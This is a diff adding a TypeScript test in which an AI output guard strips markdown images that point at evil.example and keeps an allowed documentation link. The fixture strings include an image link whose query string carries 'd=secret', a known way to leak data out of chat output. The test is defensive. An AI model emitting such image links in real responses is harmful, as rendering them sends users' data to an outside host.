@@ -106,4 +106,30 @@ describe('README examples', () => {
     }
     expect(alerts).toEqual(['userId u1 spent $6.00']);
   });
+
+  it('the output guard strips an attacker image, keeps an allowed link, and counts it', async () => {
+    const sent: string[] = [];
+    const model = createFakeChatModel({ text: 'Logo: ![x](https://evil.example/l.png) done.' });
+    const { obs, guard } = (await runExample(readmeExample(readme, 'output-guard'), {
+      modules: { '@keel/observability': observabilityModule().module },
+      scope: {
+        model,
+        request: { messages: [{ role: 'user', content: 'hi' }] },
+        send: (text: string) => sent.push(text),
+      },
+    })) as { obs: Observability; guard: observability.OutputGuard };
+    expect(sent.join('')).toBe('Logo: (image removed: x) done.');
+    expect(
+      guard.guardText(
+        'See ![chart](https://evil.example/c.png?d=secret) or [the guide](https://docs.example.com/guide).',
+      ),
+    ).toBe('See (image removed: chart) or [the guide](https://docs.example.com/guide).');
+    // The stream, the example's guardText and the one above.
+    expect(
+      obs.metrics?.value('keel.output_guard.decisions', {
+        kind: 'image-removed',
+        rule: 'markdown-image',
+      }),
+    ).toBe(3);
+  });
 });
